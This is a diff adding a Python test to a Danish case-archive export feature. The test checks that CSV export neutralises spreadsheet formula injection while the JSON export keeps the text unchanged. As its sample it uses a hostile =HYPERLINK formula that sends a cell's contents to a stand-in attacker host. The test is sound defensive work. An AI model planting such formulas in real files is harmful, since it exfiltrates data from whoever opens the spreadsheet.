@@ -149,3 +149,19 @@ def test_the_command_writes_the_export_and_prints_no_cpr(world: World, tmp_path:
     assert "1 forløb om 1 børn" in printed and "med CPR-numre" in printed
     for form in cpr_forms(CPR_A2):
         assert form not in printed
+
+
+def test_text_a_spreadsheet_would_run_is_written_as_text_in_the_csv(world: World) -> None:
+    hostile = '=HYPERLINK("https://angriber.example/?d="&A2,"Klik")'
+    closed_case(world, world.child_a2, title=hostile)
+    response = world.client_for(world.lead_a).post("/arkiv/eksport/", export_data())
+    assert response.status_code == 200
+    files = members(response.content)
+    rows = list(csv.DictReader(io.StringIO(files["csv/cases.csv"].decode("utf-8"))))
+    assert [r["title"] for r in rows] == ["'" + hostile]
+    # Nowhere in any CSV does a cell start with a formula; the JSON keeps the text as it is.
+    for name, content in files.items():
+        if name.endswith(".csv"):
+            for row in csv.reader(io.StringIO(content.decode("utf-8"))):
+                assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
+    assert json.loads(files["data.json"])["tables"]["cases"][0]["title"] == hostile
